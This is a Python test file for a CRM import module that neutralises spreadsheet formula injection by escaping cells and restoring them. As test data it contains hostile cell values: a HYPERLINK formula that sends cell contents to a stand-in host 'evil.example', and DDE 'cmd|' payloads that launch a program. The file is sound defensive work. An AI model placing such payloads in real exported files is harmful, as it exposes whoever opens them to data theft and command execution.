"""Cells that a spreadsheet would run, and the way back."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_store.imports.result import ImportResult, Problem, RejectedRow, write_rejected
from crm_store.imports.table import open_table
from crm_store.spreadsheets import plain_cell, safe_cell

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("https://evil.example?"&A1)', '\'=HYPERLINK("https://evil.example?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        (" =1+1", "' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("+91 98765 43210", "+91 98765 43210"),
        ("-1 499.50", "-1 499.50"),
        ("Asha", "Asha"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_what_would_be_a_formula_becomes_text(text: str, cell: str) -> None:
    assert safe_cell(text) == cell
    assert plain_cell(cell) == text


@given(st.text(alphabet="=+-@\t\r\n' 1a|!", max_size=12))
def test_no_cell_is_a_formula_and_each_comes_back(text: str) -> None:
    cell = safe_cell(text)
    assert plain_cell(cell) == text
    is_number = all(sign in "+-1 " for sign in cell) and "1" in cell
    assert not cell.lstrip(" ").startswith(FORMULAS) or is_number


def test_rejected_rows_can_be_opened_mended_and_imported(tmp_path: Path) -> None:
    evil = "=cmd|' /C calc'!A0"
    result = ImportResult("utf-8", ",", ["ref", "phone", evil], (), (), ())
    problem = Problem("phone", "this is no number")
    result.rejected.append(RejectedRow(2, (problem,), (evil, "+919876543210", "@x")))
    path = tmp_path / "rejected.csv"
    write_rejected(path, result)
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULAS)] == ["+919876543210"]
    with open_table(path) as table:
        [row] = list(table.rows)
    assert row.cells[:3] == [evil, "+919876543210", "@x"]
